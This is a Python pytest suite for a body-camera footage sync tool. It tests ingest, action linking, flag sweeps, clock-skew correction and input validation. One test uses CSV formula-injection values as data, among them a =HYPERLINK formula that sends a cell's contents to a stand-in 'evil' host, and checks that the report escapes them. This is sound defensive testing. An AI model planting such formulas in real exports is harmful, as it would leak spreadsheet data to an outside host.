"""End to end: a day at a field office through the real ``recorder-sync`` process.

Cameras are docked with real ffmpeg clips named by the ``default`` profile (local
Asia/Shanghai time in the name) plus a JSON sidecar giving each clip's end, so a
one-second clip can stand for minutes of footage.  Ingest runs in real time, so the
day is laid out relative to the start of the test: the forced demolition's camera is
docked about 30 hours after it ended, everything else within 24 hours.  Sweeps then
run ``--now`` a day later (every grace period has passed) and 31 days later.
"""

from __future__ import annotations

import csv
import io
import json
import os
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import pytest
import sample_dock
from clirunner import env_for, run, run_json
from sqlalchemy import text

from recorder_sync.adapters.db.engine import make_engine

SH = ZoneInfo("Asia/Shanghai")


def _clip(dock: Path, device: str, officer: str, start: datetime, end: datetime, seq: int) -> None:
    local = start.astimezone(SH)
    name = sample_dock.default_name(device, officer, local.replace(tzinfo=None), seq, "MP4")
    sample_dock.make_video(
        dock / name, start=local, seconds=1.0, label=f"{device} {officer} {seq}", frequency=300 + 37 * seq
    )
    sidecar = {"end": end.astimezone(SH).isoformat()}
    (dock / name).with_suffix(".json").write_text(json.dumps(sidecar), encoding="utf-8")


def _iso(t: datetime) -> str:
    return t.astimezone(SH).isoformat()


def _open(env: dict[str, str]) -> set[tuple[str, str]]:
    flags = run_json(env, "flags")
    return {(f["kind"], f["subject"]) for f in flags if f["kind"] not in ("unreadable-media",)}


@pytest.mark.slow
def test_day_at_a_field_office(tmp_path: Path, db_url: str) -> None:
    t0 = datetime.now(UTC).replace(second=0, microsecond=0)
    base = t0 - timedelta(hours=31)
    m = timedelta(minutes=1)
    h = timedelta(hours=1)
    main, late = tmp_path / "dock-main", tmp_path / "dock-late"
    main.mkdir()
    late.mkdir()

    # A1 seizure, officers 001 and 002: both film it in full
    a1 = (base + 8 * h, base + 8 * h + 6 * m)
    _clip(main, "CAM1", "001", a1[0], a1[1], 1)
    _clip(main, "CAM2", "002", a1[0], a1[1], 2)
    # A5 inspection and A8 hearing of officer 002 overlap: one clip, two candidates
    a5 = (base + 9 * h, base + 9 * h + 10 * m)
    a8 = (base + 9 * h + 5 * m, base + 9 * h + 20 * m)
    _clip(main, "CAM2", "002", base + 9 * h + 2 * m, base + 9 * h + 8 * m, 3)
    # A2 seizure, officer 003: two clips with a 2-minute gap between them
    a2 = (base + 10 * h, base + 10 * h + 6 * m)
    _clip(main, "CAM3", "003", a2[0], a2[0] + 2 * m, 4)
    _clip(main, "CAM3", "003", a2[0] + 4 * m, a2[1], 5)
    # A3 forced demolition, officer 004: the camera comes back ~30 h after it ended
    # Its clock runs 90 s ahead (it says so in clock.json at docking): its clip, stamped
    # 90 s late, covers the demolition once corrected; uncorrected it would leave a gap.
    a3 = (base, base + 10 * m)
    skew = timedelta(seconds=90)
    _clip(late, "CAM4", "004", a3[0] + skew, a3[1] + skew, 6)
    # A4 seizure (002, 003) and A6 inspection (001): no footage at all
    a4 = (base + 12 * h, base + 12 * h + 5 * m)
    a6 = (base + 13 * h, base + 13 * h + 10 * m)

    actions = tmp_path / "actions.csv"
    rows = [
        ("C1", "A1", "seizure", "001;002", a1, "P-1", "张三 Trading Co."),
        ("C2", "A2", "seizure", "003", a2, "P-2", "Li Si"),
        ("C3", "A3", "forced_demolition", "004", a3, "P-3", "Wang Wu"),
        ("C4", "A4", "seizure", "002;003", a4, "P-1", "张三 Trading Co."),
        ("C5", "A5", "inspection", "002", a5, "P-4", "Zhao Liu"),
        ("C5", "A6", "inspection", "001", a6, "P-4", "Zhao Liu"),
        ("C6", "A8", "hearing", "002", a8, "P-5", "Qian Qi"),
    ]
    lines = ["case_id,action_id,action_type,unit,officers,start,end,target_id,target_name,place"]
    for case, aid, kind, officers, (s, e), pid, pname in rows:
        lines.append(f"{case},{aid},{kind},Unit 1,{officers},{_iso(s)},{_iso(e)},{pid},{pname},Street {aid}")
    actions.write_text("\n".join(lines) + "\n", encoding="utf-8")
    ledger = tmp_path / "ledger.json"
    window = (base + 7 * h, base + 15 * h)
    ledger.write_text(
        json.dumps(
            [
                {"device": "CAM1", "officer": "001", "start": _iso(window[0]), "end": _iso(window[1])},
                {"device": "CAM2", "officer": "002", "start": _iso(window[0]), "end": _iso(window[1])},
                {"device": "CAM3", "officer": "003", "start": _iso(window[0]), "end": _iso(window[1])},
                {"device": "CAM4", "officer": "004", "start": _iso(base - h), "end": _iso(base + 2 * h)},
                # never docked
                {"device": "CAM5", "officer": "003", "start": _iso(base + 8 * h), "end": _iso(base + 10 * h)},
            ]
        ),
        encoding="utf-8",
    )
    env = env_for(tmp_path / "home", db_url)

    # a bad file is refused whole, every problem listed; nothing is imported
    bad = tmp_path / "bad.csv"
    bad.write_text(
        lines[0]
        + "\nC9,A90,seizure,Unit 1,001,2026-11-27T08:00:00+08:00,2026-11-27T09:00:00+08:00,,,\n"
        + "C9,A91,arrest,Unit 1,,2026-11-27T08:00:00,2026-11-27T07:00:00+08:00,,,\n",
        encoding="utf-8",
    )
    r = run(env, "cases", "import", str(bad))
    assert r.returncode == 2, r.stderr
    assert "nothing imported" in r.stderr
    for needle in ("row 2", "'action_type'", "'arrest'", "'officers'", "'start'", "no UTC offset"):
        assert needle in r.stderr, (needle, r.stderr)

    r = run(env, "ingest", str(main), "--stable-seconds", "0", "-q")
    assert r.returncode == 0, r.stderr
    doc = run_json(env, "cases", "import", str(actions))
    assert sorted(doc["added"]) == ["A1", "A2", "A3", "A4", "A5", "A6", "A8"]
    assert run_json(env, "cases", "import", str(actions)) == {
        "added": [],
        "updated": [],
        "unchanged": 7,
        "links_created": [],
    }
    run_json(env, "ledger", "import", str(ledger))
    assert [a["action_id"] for a in run_json(env, "case", "list", "--target", "P-1")] == ["A1", "A4"]

    links = run_json(env, "links")
    by_action: dict[str, list[dict[str, Any]]] = {}
    for link in links:
        by_action.setdefault(link["action_id"], []).append(link)
    assert {a: sorted(x["confidence"] for x in ls) for a, ls in by_action.items()} == {
        "A1": ["auto", "auto"],
        "A2": ["auto", "auto"],
        "A5": ["suggested"],
        "A8": ["suggested"],
    }
    ambiguous = by_action["A5"][0]["recording_id"]
    assert "ambiguous" in by_action["A5"][0]["reason"]
    r = run(env, "link", ambiguous, "A5", "--by", "supervisor 9", "--reason", "inspection per the notes")
    assert r.returncode == 0, r.stderr
    assert [x["confidence"] for x in run_json(env, "links", "--action", "A5")] == ["confirmed"]

    n1 = t0 + 26 * h
    sweep = run_json(env, "sweep", "--now", n1.isoformat())
    expected = {
        ("camera-not-docked", f"device:CAM4:checkout:{(base - h):%Y%m%dT%H%M%SZ}"),
        ("camera-not-docked", f"device:CAM5:checkout:{(base + 8 * h):%Y%m%dT%H%M%SZ}"),
        ("footage-missing", "action:A3:officer:004"),
        ("footage-missing", "action:A4:officer:002"),
        ("footage-missing", "action:A4:officer:003"),
        ("coverage-gap", "action:A2"),
        ("footage-recommended-missing", "action:A6"),
        ("footage-recommended-missing", "action:A8"),
    }
    assert sweep["raised"] == len(expected)
    assert _open(env) == expected
    flags = {f["subject"]: f for f in run_json(env, "flags")}
    for f in flags.values():
        assert {"kind", "severity", "state", "subject", "detail"} <= set(f)
    gap = flags["action:A2"]
    assert gap["severity"] == "high" and gap["state"] == "open"
    gap_start = (a2[0] + 2 * m).astimezone(SH).strftime("%Y-%m-%d %H:%M:%S")
    assert "1 gap(s)" in gap["detail"] and "(2 min 0 s)" in gap["detail"] and gap_start in gap["detail"]
    # the same sweep again changes nothing
    assert run_json(env, "sweep", "--now", (n1 + m).isoformat())["changes"] == []

    # the late camera is docked: its footage arrives ~30 h after the demolition ended
    clock_at = datetime.now(UTC)
    (late / "clock.json").write_text(
        json.dumps(
            {
                "device": "CAM4",
                "camera_time": (clock_at + skew).astimezone(SH).replace(tzinfo=None).isoformat(),
            }
        ),
        encoding="utf-8",
    )
    os.utime(late / "clock.json", (clock_at.timestamp(), clock_at.timestamp()))
    r = run(env, "ingest", str(late), "--stable-seconds", "0", "-q")
    assert r.returncode == 0, r.stderr
    sweep = run_json(env, "sweep", "--now", (n1 + 2 * m).isoformat())
    changes = {(c["change"], c["kind"], c["subject"].split(":")[0]) for c in sweep["changes"]}
    assert changes == {
        ("resolved", "camera-not-docked", "device"),
        ("resolved", "footage-missing", "action"),
        ("raised", "upload-late", "recording"),
        ("resolved-late", "upload-late", "recording"),
    }
    assert sweep["raised"] == 2 and sweep["resolved"] == 4
    # every file of that camera (the clip and its sidecar) was late; the clip belongs to a
    # full-recording action, so its flag is one step more severe
    all_flags = run_json(env, "flags", "--all")
    late_flags = {f["recording_id"]: f for f in all_flags if f["kind"] == "upload-late"}
    clip = next(r for r in run_json(env, "list", "--device", "CAM4") if r["kind"] == "video")
    assert len(late_flags) == 2 and {f["state"] for f in late_flags.values()} == {"resolved-late"}
    detail = late_flags[clip["id"]]["detail"]
    assert late_flags[clip["id"]]["severity"] == "critical" and "A3" in detail
    assert "camera clock corrected by +90 s" in detail and "uncertain camera clock" in detail
    assert _open(env) == expected - {
        ("camera-not-docked", f"device:CAM4:checkout:{(base - h):%Y%m%dT%H%M%SZ}"),
        ("footage-missing", "action:A3:officer:004"),
    }

    # 31 days on: the case whose seizure has no footage is overdue, no other case is
    sweep = run_json(env, "sweep", "--now", (t0 + timedelta(days=31)).isoformat())
    assert [(c["change"], c["kind"], c["subject"]) for c in sweep["changes"]] == [
        ("raised", "case-file-overdue", "case:C4")
    ]

    year = a3[1].astimezone(SH).year
    report = run_json(env, "report", "--year", str(year), "--now", (n1 + 3 * m).isoformat())
    total = report["total"]
    assert total["late_flags"] == 2
    assert total["timeliness"]["late_verified"] == 2
    # A3's footage was missing for a day (flag resolved when it came), A4's still is
    assert total["full_actions"] == 4 and total["full_actions_missing_footage"] == 2
    assert total["actions_with_coverage_gaps"] == 1
    r = run(env, "report", "--csv")
    assert r.returncode == 0 and r.stdout.startswith("dimension,key,recordings")
    assert [x["action_id"] for x in run_json(env, "links", "--device", "CAM3")] == ["A2", "A2"]
    shown = run_json(env, "case", "show", "A6")  # by one of its actions: the whole case C5
    assert shown["case_id"] == "C5" and [a["action_id"] for a in shown["actions"]] == ["A5", "A6"]
    assert shown["actions"][0]["history"][0]["version"] == 1
    for args in (("case", "show", "C5"), ("report",)):  # the tables print too
        r = run(env, *args)
        assert r.returncode == 0 and r.stdout, (args, r.stderr)


# --- hostile imports and options (issue 7, items 10 and 19) -------------------------------

HEADER = "case_id,action_id,action_type,unit,officers,start,end,target_id,target_name,place"


@pytest.mark.slow
def test_absurd_dates_and_nested_json_are_usage_errors_not_tracebacks(tmp_path: Path, db_url: str) -> None:
    env = env_for(tmp_path / "home", db_url)
    far = tmp_path / "far.csv"
    far.write_text(HEADER + "\nC1,A1,seizure,U1,001,2026-11-27T08:00:00+08:00,9999-12-31T23:00:00Z,,,\n")
    early = tmp_path / "early.json"
    row = {"case_id": "C1", "action_id": "A2", "action_type": "seizure", "unit": "U1", "officers": "001"}
    row |= {"start": "0001-01-01T00:00:00+01:00", "end": "2026-11-27T09:00:00+08:00"}
    early.write_text(json.dumps([row]))
    nul = tmp_path / "nul.json"
    nul.write_text(json.dumps([row | {"start": "2026-11-27T08:00:00+08:00", "unit": "U\u0000"}]))
    nested = tmp_path / "nested.json"
    nested.write_text("[" * 100_000 + "]" * 100_000)
    cases: list[tuple[tuple[str, ...], tuple[str, ...]]] = [
        (("cases", "import", str(far)), ("row 1", "column 'end'", "plausible range", "9999-12-31T23:00:00Z")),
        (("cases", "import", str(early)), ("row 1", "column 'start'", "plausible range")),
        (("cases", "import", str(nested)), ("nested too deeply",)),
        (("cases", "import", str(nul)), ("row 1", "column 'unit'", "control character U+0000")),
        (("report", "--year", "0"), ("--year 0", "expected a year from 2000 to 2099")),
        (("report", "--year", "9999"), ("--year 9999",)),
        (("sweep", "--now", "9999-12-31T23:59:59Z"), ("--now", "plausible range")),
        (("report", "--now", "0001-01-01T00:00:00+01:00"), ("--now", "plausible range")),
    ]
    for args, needles in cases:
        r = run(env, *args)
        assert r.returncode == 2, (args, r.returncode, r.stderr)
        assert "Traceback" not in r.stderr, (args, r.stderr)
        for needle in needles:
            assert needle in r.stderr, (args, needle, r.stderr)
    assert run_json(env, "case", "list") == []  # nothing was imported
    # the engine still runs
    assert run(env, "sweep").returncode == 0
    assert run(env, "report", "--year", "2026").returncode == 0


@pytest.mark.slow
def test_one_shot_ingest_of_a_late_clip_then_the_first_sweep_flags_it_late(
    tmp_path: Path, db_url: str
) -> None:
    """Issue 7, item 9: ``report`` counted it late while ``flags --all`` showed nothing."""
    dock = tmp_path / "dock"
    dock.mkdir()
    ended = datetime.now(UTC).replace(microsecond=0) - timedelta(hours=30)
    _clip(dock, "CAM1", "001", ended - timedelta(minutes=5), ended, 1)
    env = env_for(tmp_path / "home", db_url)
    r = run(env, "ingest", str(dock), "--stable-seconds", "0", "-q")
    assert r.returncode == 0, r.stderr
    sweep = run_json(env, "sweep")
    assert sweep["full"] is True
    clip = next(x for x in run_json(env, "list") if x["kind"] == "video")
    late = [f for f in run_json(env, "flags", "--all") if f["kind"] == "upload-late"]
    # the clip and its sidecar both came late; each has one flag, raised and resolved-late
    assert sorted(f["state"] for f in late) == ["resolved-late", "resolved-late"]
    assert clip["id"] in {f["recording_id"] for f in late}
    for args in (("sweep",), ("sweep", "--full")):
        assert run_json(env, *args)["changes"] == [], args
    assert len([f for f in run_json(env, "flags", "--all") if f["kind"] == "upload-late"]) == 2
    report = run_json(env, "report")
    assert report["total"]["late_flags"] == report["total"]["timeliness"]["late"] == 2


def custody_times(db_url: str) -> list[datetime]:
    engine = make_engine(db_url)
    try:
        with engine.connect() as c:
            return [r[0] for r in c.execute(text("SELECT at FROM custody_events ORDER BY seq"))]
    finally:
        engine.dispose()


@pytest.mark.slow
def test_sweep_now_in_the_past_is_a_dry_run(tmp_path: Path, db_url: str) -> None:
    """Issue 7, item 11: ``sweep --now 2020-…`` resolved real flags and wrote 2020 events."""
    env = env_for(tmp_path / "home", db_url)
    actions = tmp_path / "actions.csv"
    ended = datetime.now(UTC).replace(microsecond=0) - timedelta(days=3)
    window = f"{(ended - timedelta(hours=1)).isoformat()},{ended.isoformat()}"
    actions.write_text(HEADER + f"\nC1,A1,seizure,U1,001,{window},,,\n")
    run_json(env, "cases", "import", str(actions))
    sweep = run_json(env, "sweep")
    assert [(c["change"], c["kind"]) for c in sweep["changes"]] == [("raised", "footage-missing")]
    assert sweep["dry_run"] is False
    flags = run_json(env, "flags")
    events = custody_times(db_url)

    r = run(env, "sweep", "--now", "2020-01-01T00:00:00Z")
    assert r.returncode == 0, r.stderr
    assert "dry run" in r.stdout and "nothing written" in r.stdout
    assert "resolved" in r.stdout and "footage-missing" in r.stdout  # what it would do
    past = run_json(env, "sweep", "--now", "2020-01-01T00:00:00Z")
    assert past["dry_run"] is True
    assert [(c["change"], c["kind"]) for c in past["changes"]] == [("resolved", "footage-missing")]
    assert run_json(env, "flags") == flags  # still open, unchanged
    assert custody_times(db_url) == events  # no event written, none dated 2020
    # the next real sweep has nothing to raise again
    assert run_json(env, "sweep")["changes"] == []
    # a sweep as of the future writes; the clock's next sweep is the present, and writes too
    future = (datetime.now(UTC) + timedelta(days=40)).isoformat()
    assert [c["kind"] for c in run_json(env, "sweep", "--now", future)["changes"]] == ["case-file-overdue"]
    present = run_json(env, "sweep")
    assert present["dry_run"] is False
    assert [(c["change"], c["kind"]) for c in present["changes"]] == [("resolved", "case-file-overdue")]


def test_report_csv_cannot_inject_formulas_and_keeps_officer_zeros(tmp_path: Path, db_url: str) -> None:
    """Issue 7, item 12: a unit named ``=HYPERLINK(…)`` ran in the auditor's spreadsheet."""
    env = env_for(tmp_path / "home", db_url)
    ended = datetime.now(UTC).replace(microsecond=0) - timedelta(days=2)
    window = f"{(ended - timedelta(hours=1)).isoformat()},{ended.isoformat()}"
    hostile = ['"=HYPERLINK(""http://evil/?""&A1,""ok"")"', "+1+1", "-2+3", "@SUM(A1)"]
    rows = [f"C{n},A{n},inspection,{unit},007;0101,{window},,," for n, unit in enumerate(hostile)]
    actions = tmp_path / "actions.csv"
    actions.write_text(HEADER + "\n" + "\n".join(rows) + "\n")
    run_json(env, "cases", "import", str(actions))
    r = run(env, "report", "--csv")
    assert r.returncode == 0, r.stderr
    cells = {(row["dimension"], row["key"]): row for row in csv.DictReader(io.StringIO(r.stdout))}
    units = {key for dim, key in cells if dim == "unit"}
    assert units == {'\'=HYPERLINK("http://evil/?"&A1,"ok")', "'+1+1", "'-2+3", "'@SUM(A1)"}
    assert {key for dim, key in cells if dim == "officer"} == {"'007", "'0101"}
    for row in cells.values():
        for value in row.values():
            assert not value or value[0] not in "=+-@\t\r", (row, value)
    assert cells[("total", "all")]["actions"] == "4"  # numbers stay numbers
    # --json stays exact
    doc = run_json(env, "report")
    assert {g["key"] for g in doc["by_officer"]} == {"007", "0101"}
